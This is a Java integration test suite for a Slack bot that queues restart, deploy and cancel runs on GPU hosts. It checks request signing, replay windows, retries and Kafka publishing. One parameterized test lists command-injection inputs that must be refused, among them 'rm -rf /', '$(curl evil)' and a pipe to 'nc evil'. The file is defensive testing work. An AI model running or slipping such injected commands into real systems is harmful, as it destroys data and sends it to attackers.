package dev.gpuops.bot.slack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gpuops.bot.support.IngressITSupport;
import dev.gpuops.event.CancelRequested;
import dev.gpuops.event.CommandReceived;
import dev.gpuops.event.EventJson;
import dev.gpuops.event.GpuopsEvent;
import dev.gpuops.event.Origin;
import dev.gpuops.event.Verb;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.common.TopicPartition;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/** Signed slash commands through Tomcat, the request filter and Bolt, onto the real in-process broker. */
class SlackIngressIT extends IngressITSupport {

    private static final Pattern QUEUED = Pattern.compile("Run (r-[0-9a-z]{8}) accepted: (.+) — its progress follows in this channel");

    @Autowired
    SocketModeConnector socketMode;

    @Test
    void validRestartIsPublishedKeyedByTargetThenAckedInChannel() {
        Map<TopicPartition, Long> before = commands.endOffsets();
        String trigger = newTriggerId();
        HttpResponse<String> response =
                postSlack(slashCommand("restart box-1 worker-gpu", trigger), Instant.now(), SIGNING_SECRET, Map.of());

        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode ack = json(response);
        assertThat(ack.path("response_type").asString()).as("the run's root message is what the channel sees")
                .isEqualTo("ephemeral");
        Matcher queued = QUEUED.matcher(ack.path("text").asString());
        assertThat(queued.matches()).as(ack.toString()).isTrue();
        assertThat(queued.group(2)).isEqualTo("restart box-1 worker-gpu");

        List<ConsumerRecord<String, byte[]>> written = commands.readSince(before);
        assertThat(written).singleElement().satisfies(record -> {
            assertThat(record.key()).isEqualTo("box-1");
            CommandReceived command = (CommandReceived) EventJson.read(record.value());
            assertThat(command.runId()).isEqualTo(queued.group(1));
            assertThat(command.target()).isEqualTo("box-1");
            assertThat(command.verb()).isEqualTo(Verb.RESTART);
            assertThat(command.inputs()).isEqualTo(Map.of("program", "worker-gpu"));
            assertThat(command.origin()).isEqualTo(new Origin("slack", "C0OPS", "U0ALICE", "alice", trigger));
        });
    }

    @Test
    void slackRetryOfTheSameTriggerIsAnsweredAgainButNotPublishedTwice() {
        String body = slashCommand("deploy box-1 v2.0.1 --force", newTriggerId());
        HttpResponse<String> first = postSlack(body, Instant.now(), SIGNING_SECRET, Map.of());
        Map<TopicPartition, Long> afterFirst = commands.endOffsets();
        HttpResponse<String> retry = postSlack(body, Instant.now(), SIGNING_SECRET,
                Map.of("X-Slack-Retry-Num", "1", "X-Slack-Retry-Reason", "http_timeout"));

        assertThat(json(first).path("text").asString()).startsWith("Run r-")
                .contains("accepted: deploy box-1 v2.0.1 --force —");
        assertThat(retry.statusCode()).isEqualTo(200);
        assertThat(retry.body()).isEqualTo(first.body());
        assertThat(commands.readSince(afterFirst)).isEmpty();
    }

    @Test
    void wrongSecretIsRefused() {
        HttpResponse<String> response =
                postSlack(slashCommand("status box-1", newTriggerId()), Instant.now(), "not-the-secret", Map.of());
        assertThat(response.statusCode()).isEqualTo(401);
    }

    @Test
    void missingSignatureIsRefused() {
        HttpResponse<String> response = post("/slack/events", "application/x-www-form-urlencoded",
                slashCommand("status box-1", newTriggerId()).getBytes(StandardCharsets.UTF_8), Map.of());
        assertThat(response.statusCode()).isEqualTo(401);
    }

    @Test
    void correctlySignedButTenMinutesOldIsRefused() {
        HttpResponse<String> response = postSlack(slashCommand("status box-1", newTriggerId()),
                Instant.now().minus(Duration.ofMinutes(10)), SIGNING_SECRET, Map.of());
        assertThat(response.statusCode()).isEqualTo(401);
    }

    @Test
    void correctlySignedButTenMinutesAheadIsRefused() {
        HttpResponse<String> response = postSlack(slashCommand("status box-1", newTriggerId()),
                Instant.now().plus(Duration.ofMinutes(10)), SIGNING_SECRET, Map.of());
        assertThat(response.statusCode()).isEqualTo(401);
    }

    @Test
    void sslCheckIsAnswered() {
        HttpResponse<String> response = post("/slack/events", "application/x-www-form-urlencoded",
                "ssl_check=1&token=gIkuvaNzQIHg97ATvDxqgjtO".getBytes(StandardCharsets.UTF_8), Map.of());
        assertThat(response.statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"reboot box-1", "restart box-9 worker-gpu", "restart box-1 worker-tpu",
            "scale pod-1 1000", "deploy box-1", "restart box-1; rm -rf /", "deploy box-1 `reboot`",
            "deploy box-1 $(curl evil)", "restart box-1\nreboot", "logs box-1 | nc evil 1"})
    void refusedCommandsGetEphemeralUsageAndPublishNothing(String text) {
        Map<TopicPartition, Long> before = commands.endOffsets();
        HttpResponse<String> response = slack(text);

        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode reply = json(response);
        assertThat(reply.path("response_type").asString()).isEqualTo("ephemeral");
        assertThat(reply.path("text").asString()).contains("Nothing was started").contains("Usage");
        assertThat(commands.readSince(before)).isEmpty();
    }

    @Test
    void helpIsEphemeralUsage() {
        JsonNode reply = json(slack("help"));
        assertThat(reply.path("response_type").asString()).isEqualTo("ephemeral");
        String text = reply.path("text").asString();
        assertThat(text).as("Slack's escaping keeps <target> visible instead of reading it as a link")
                .contains("/gpu deploy &lt;target&gt; &lt;tag&gt; [--force]")
                .contains("/gpu cancel &lt;run-id&gt;").contains("Targets: box-1, box-2, pod-1")
                .doesNotContain("<target>");
        assertThat(text).contains("```");
        List<Integer> columns = text.lines().filter(line -> line.startsWith("/gpu "))
                .map(line -> line.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"))
                .map(line -> line.split(" {2,}", 2).length == 2 ? line.indexOf(line.split(" {2,}", 2)[1]) : -1)
                .toList();
        assertThat(columns).as("descriptions start in one column as Slack renders them").hasSize(CommandUsage.commandCount())
                .allMatch(c -> c.equals(columns.getFirst()) && c > 0);
    }

    @Test
    void runsListsARunJustQueued() {
        String runId = queuedRunId(slack("status pod-1"));
        JsonNode reply = json(slack("runs"));
        assertThat(reply.path("response_type").asString()).isEqualTo("ephemeral");
        assertThat(reply.path("text").asString()).contains(runId).contains("status pod-1").contains("alice");
    }

    @Test
    void cancelPublishesCancelRequestedKeyedByTheRunsTarget() {
        String runId = queuedRunId(slack("logs box-2"));
        Map<TopicPartition, Long> before = commands.endOffsets();
        JsonNode reply = json(slack("cancel " + runId));

        assertThat(reply.path("response_type").asString()).isEqualTo("in_channel");
        assertThat(reply.path("text").asString()).contains("Cancel requested for run " + runId);
        List<ConsumerRecord<String, byte[]>> written = commands.readSince(before);
        assertThat(written).singleElement().satisfies(record -> {
            assertThat(record.key()).isEqualTo("box-2");
            GpuopsEvent event = EventJson.read(record.value());
            assertThat(event).isInstanceOfSatisfying(CancelRequested.class,
                    cancel -> assertThat(cancel.runId()).isEqualTo(runId));
        });
    }

    @Test
    void planPublishesADryRunOfTheCommand() {
        Map<TopicPartition, Long> before = commands.endOffsets();
        JsonNode ack = json(slack("plan restart box-1 worker-gpu"));

        assertThat(ack.path("text").asString()).contains("accepted: plan restart box-1 worker-gpu");
        assertThat(commands.readSince(before)).singleElement().satisfies(record -> {
            CommandReceived command = (CommandReceived) EventJson.read(record.value());
            assertThat(command.verb()).isEqualTo(Verb.RESTART);
            assertThat(command.inputs()).isEqualTo(Map.of("program", "worker-gpu", "dryRun", "true"));
            assertThat(command.describe()).isEqualTo("plan restart box-1 worker-gpu");
        });
    }

    @Test
    void approveOfARunThatIsNotWaitingPublishesNothing() {
        Map<TopicPartition, Long> before = commands.endOffsets();
        JsonNode reply = json(slack("approve r-zzzzzzzz"));
        assertThat(reply.path("response_type").asString()).isEqualTo("ephemeral");
        assertThat(reply.path("text").asString()).contains("Run `r-zzzzzzzz` is not waiting for approval");
        assertThat(commands.readSince(before)).isEmpty();
    }

    @Test
    void cancelOfAnUnknownRunPublishesNothing() {
        Map<TopicPartition, Long> before = commands.endOffsets();
        JsonNode reply = json(slack("cancel r-zzzzzzzz"));
        assertThat(reply.path("response_type").asString()).isEqualTo("ephemeral");
        assertThat(reply.path("text").asString()).contains("No run `r-zzzzzzzz`");
        assertThat(commands.readSince(before)).isEmpty();
    }

    @Test
    void boltCheckedTheBotTokenAndSocketModeStayedOffWithoutAnAppToken() {
        assertThat(SLACK_API.authTests()).isPositive();
        assertThat(socketMode.isRunning()).isFalse();
        assertThat(socketMode.connected()).isFalse();
    }

    @Test
    void topicsHaveTheConfiguredPartitions() {
        assertThat(commands.partitionCount()).isEqualTo(3);
    }

    private static String queuedRunId(HttpResponse<String> response) {
        Matcher queued = QUEUED.matcher(json(response).path("text").asString());
        assertThat(queued.matches()).as(response.body()).isTrue();
        return queued.group(1);
    }
}
